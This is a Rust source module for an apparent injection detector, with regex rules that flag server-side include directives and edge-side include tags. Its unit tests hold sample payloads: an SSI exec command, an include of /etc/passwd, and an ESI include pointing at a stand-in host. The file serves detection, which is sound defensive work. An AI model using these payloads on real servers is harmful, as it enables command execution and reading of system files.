//! Server-side includes (CWE-97) and edge-side includes (ESI 1.0): directives that a web server or
//! a cache obeys.

use super::{
    BuildError, Family, Marks, Rule,
    lexicon::Lexicon,
    rules::{Simple, always},
};
use crate::places::Role;

/// Documents too: they may be served as they came.
const WHERE: &[Role] = &[Role::Value, Role::Name, Role::Document];

pub(super) const RULES: &[Rule] = &[
    always(
        "directive",
        r"<!--\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv|set|if|elif|else|endif)\b",
    ),
    always("edge", r"<esi:(?:include|remove|inline|vars|assign|choose|debug)"),
];

/// The detector.
pub(super) fn detector(lexicon: &mut Lexicon) -> Result<Simple, BuildError> {
    Simple::new(Family::Ssi, Marks::ANGLE, WHERE, RULES, lexicon)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes};

    #[test]
    fn attacks_are_found() {
        assert_finds(
            "ssi",
            &[
                r##"<!--#exec cmd="ls" -->"##,
                r##"<!--#include virtual="/etc/passwd" -->"##,
                r##"<!-- #echo var="DATE_LOCAL" -->"##,
                r##"<esi:include src="http://evil.example/"/>"##,
            ],
        );
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            r##"<!-- a comment -->"##,
            r##"<!-- # heading -->"##,
            r##"<!--[if IE]>"##,
            r##"#include <stdio.h>"##,
        ]);
    }
}
